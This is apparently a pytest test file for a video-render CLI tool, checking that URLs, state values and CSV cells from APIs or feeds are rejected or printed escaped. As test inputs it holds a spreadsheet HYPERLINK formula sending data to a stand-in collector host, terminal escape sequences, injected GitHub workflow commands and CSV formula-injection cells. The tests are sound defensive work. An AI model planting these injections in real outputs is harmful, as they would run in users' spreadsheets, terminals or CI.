"""API answers and state files are input (issue 22, item 7): a `video_url` or `cover_url` that is
not a plain http(s) URL is not a success and is never printed; every value printed has its
control characters shown, not obeyed; a workflow command holds one line whatever its values."""

from __future__ import annotations

import csv
import io
import json
import re
import threading
from typing import IO, cast

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jogg_flow import text
from jogg_flow.api.http import ProjectInfo
from jogg_flow.errors import Problem
from jogg_flow.state import State
from jogg_flow.ui import github, report
from jogg_flow.ui.progress import Reporter
from tests.conftest import FAKE_KEY
from tests.scripted import Reply, Scripted, envelope

MANIFEST = "version: 1\nproducts: [{key: a, url: 'https://shop.example/a'}]\n"
FAST = ("--post-rate", "20/1s", "--poll-interval", "0.05", "--poll-max", "0.2")
FORMULA = '=HYPERLINK("https://collector.example/?"&A1,"open")'
ESCAPES = "https://cdn.example/c.png\x1b]8;;https://evil.example\x07\n::add-mask::x\n::error::pwned"
# A line that a terminal or GitHub's runner would obey: an escape, or a workflow command that
# jogg-flow did not write (its own are ::error / ::warning with file= or title=jogg-flow).
OBEYED = re.compile(r"\x1b|\x07|^::(?!(error|warning) (file=|title=jogg-flow))", re.MULTILINE)


class OpenApi:
    """A JoggAI `open` API whose finished render answers the given URLs."""

    def __init__(self, video_url, cover_url):
        self.urls = {"video_url": video_url, "cover_url": cover_url}
        self.lock = threading.Lock()

    def __call__(self, r):
        if r.path == "/open/avatar":
            return envelope({"avatars": [{"id": 37}]})
        if r.path == "/open/product":
            return envelope({"id": 1, "prj_id": "P" * 32})
        if r.path == "/open/project/render":
            return envelope(None)
        if r.path == "/open/prj_info":
            return envelope({"status": 4, "progress": 100, "duration": 12, **self.urls})
        return Reply(404, b"no")


@pytest.mark.parametrize("video_url, cover_url, named", [
    (FORMULA, "https://cdn.example/c.png", "video_url"),
    ("https://cdn.example/v.mp4", ESCAPES, "cover_url"),
    ("javascript:alert(1)", None, "video_url"),
    (["https://cdn.example/v.mp4"], None, "video_url"),
])
def test_an_answer_whose_url_is_not_plain_http_is_not_a_success(video_url, cover_url, named, run, write,
                                                                  tmp_path, monkeypatch):
    summary, outputs = tmp_path / "summary.md", tmp_path / "outputs.txt"
    env = {"JOGG_API_KEY": FAKE_KEY, "GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary),
           "GITHUB_OUTPUT": str(outputs)}
    manifest, state = write("m.yaml", MANIFEST), str(tmp_path / "s.json")
    with Scripted(OpenApi(video_url, cover_url)) as api:
        result = run("apply", manifest, "--api-base", api.url, "--state", state, *FAST, env=env)
    printed = result.stdout + result.stderr + summary.read_text() + outputs.read_text()
    assert result.exit_code == 1
    assert f"JoggAI answered a {named} that is not a plain http(s) URL" in result.stdout
    assert not OBEYED.search(printed)
    assert "HYPERLINK" not in printed and "javascript:" not in printed
    record = State.load(state).get("a")
    assert record is not None and record["status"] == "failed" and not record.get("outputs")
    csv_out = run("outputs", manifest, "--state", state, "--output", "csv").stdout
    assert not re.search(r"(^|,)[=+\-@]", csv_out, re.MULTILINE)


def test_a_tampered_state_is_printed_escaped_everywhere(run, write, tmp_path):
    manifest, state = write("m.yaml", MANIFEST), str(tmp_path / "s.json")
    store = State.load(state)
    store.put("a", {"status": "succeeded", "project_id": "P\x1b[2J",
                    "outputs": {"video_url": ESCAPES, "cover_url": FORMULA}})
    for args in (("outputs", manifest), ("state", "list", manifest), ("plan", manifest)):
        result = run(*args, "--state", state)
        assert result.exit_code == 0, result.stderr
        assert not OBEYED.search(result.stdout + result.stderr), args
    text = run("outputs", manifest, "--state", state).stdout
    assert "\\x1b]8;;https://evil.example\\x07\\n::add-mask::x" in text


def test_feed_cells_in_problems_and_annotations_are_shown_not_obeyed(run, tmp_path):
    (tmp_path / "feed.csv").write_text('handle,link,"x\x1b[2J\u202e\n::add-mask::y","x\x1b[2J\u202e\n::add-mask::y"\n')
    (tmp_path / "m.yaml").write_text("version: 1\nproducts_from:\n  - file: feed.csv\n    product:\n"
                                     "      key: '{{ row.handle }}'\n      url: '{{ row.link }}'\n")
    result = run("validate", str(tmp_path / "m.yaml"), env={"GITHUB_ACTIONS": "true"})
    assert result.exit_code == 3
    assert not OBEYED.search(result.stdout + result.stderr)
    assert "the header names column 'x\\x1b[2J\\u202e\\n::add-mask::y' twice" in result.stderr
    (annotation,) = result.stdout.splitlines()
    assert annotation.startswith("::error file=")


def test_a_workflow_command_is_one_line_whatever_its_values():
    line = github.annotation("error", "a\r\n::add-mask::secret\x1b[1m%", "m\n.yaml", 3, title="t,itle")
    assert "\n" not in line and "\r" not in line and "\x1b" not in line
    assert line == "::error file=m%0A.yaml,line=3,title=t%2Citle::a%0D%0A::add-mask::secret\\x1b[1m%25"


# Any text a feed, a state or an answer may hold: what is printed of it obeys nothing, and
# a lone surrogate is shown instead of crashing the print.
ANY = st.text(st.characters(), max_size=40)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(ANY, ANY)
def test_printed_values_hold_no_control_characters(key, value):
    for shown in (text.printable(value), str(Problem(key, 1, 1, value)), report.table(["k", "v"], [[key, value]]),
                  github.annotation("error", value, key, 1), report.plan_text([])):
        shown.encode("utf-8")  # a lone surrogate would raise here
        assert not any(c in shown for c in "\x1b\r\x07\x85\u2028\u202e")
    stream = _Lines()
    Reporter("text", cast(IO[str], stream))({"event": "video", "key": key, "status": "failed", "message": value})
    assert stream.text.count("\n") == 1 and "\x1b" not in stream.text
    info = ProjectInfo.read("succeeded", {"video_url": value, "cover_url": None}, None)
    assert info.video_url is None or (info.video_url == value and info.video_url.isprintable())


class _Lines:
    def __init__(self):
        self.text = ""

    def write(self, text):
        self.text += text

    def flush(self):
        pass

    def isatty(self):
        return False


def test_json_output_of_a_lone_surrogate_is_escaped_not_a_crash(run, write, tmp_path):
    manifest, state = write("m.yaml", MANIFEST), str(tmp_path / "s.json")
    store = State.load(state)
    store.put("a", {"status": "succeeded", "outputs": {"video_url": "https://x.example/\udcff"}})
    for fmt in ("text", "json", "csv"):
        result = run("outputs", manifest, "--state", state, "--output", fmt)
        assert result.exit_code == 0 and "Traceback" not in result.output
    json.loads(run("outputs", manifest, "--state", state, "--output", "json").stdout)


@pytest.mark.parametrize("cell", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
                                  "＝1+1"])
def test_outputs_csv_never_holds_a_cell_a_spreadsheet_runs(cell, run, write, tmp_path):
    manifest, state = write("m.yaml", MANIFEST), str(tmp_path / "s.json")
    State.load(state).put("a", {"status": "succeeded", "project_id": cell,
                                "outputs": {"video_url": cell, "cover_url": "https://x.example/c.png"}})
    result = run("outputs", manifest, "--state", state, "--output", "csv")
    assert result.exit_code == 0
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    for field in ("project_id", "video_url"):
        assert not row[field].startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
    assert row["cover_url"] == "https://x.example/c.png"


def test_a_failure_message_with_nul_and_escapes_is_kept_and_shown_escaped(run, write, tmp_path):
    # Item 6: a NUL in an answer reached the state (PostgreSQL refuses it on every later write).
    class Failing(OpenApi):
        def __call__(self, r):
            if r.path == "/open/prj_info":
                return envelope({"status": 5, "err_msg": "crawl\u0000failed\x1b[2J"})
            return super().__call__(r)

    manifest, state = write("m.yaml", MANIFEST), str(tmp_path / "s.json")
    with Scripted(Failing(None, None)) as api:
        result = run("apply", manifest, "--api-base", api.url, "--state", state, *FAST,
                     env={"JOGG_API_KEY": FAKE_KEY})
    assert result.exit_code == 1 and not OBEYED.search(result.stdout + result.stderr)
    assert "crawl\\x00failed\\x1b[2J" in result.stdout
    assert "\u0000" not in json.dumps(State.load(state).get("a"), ensure_ascii=False)
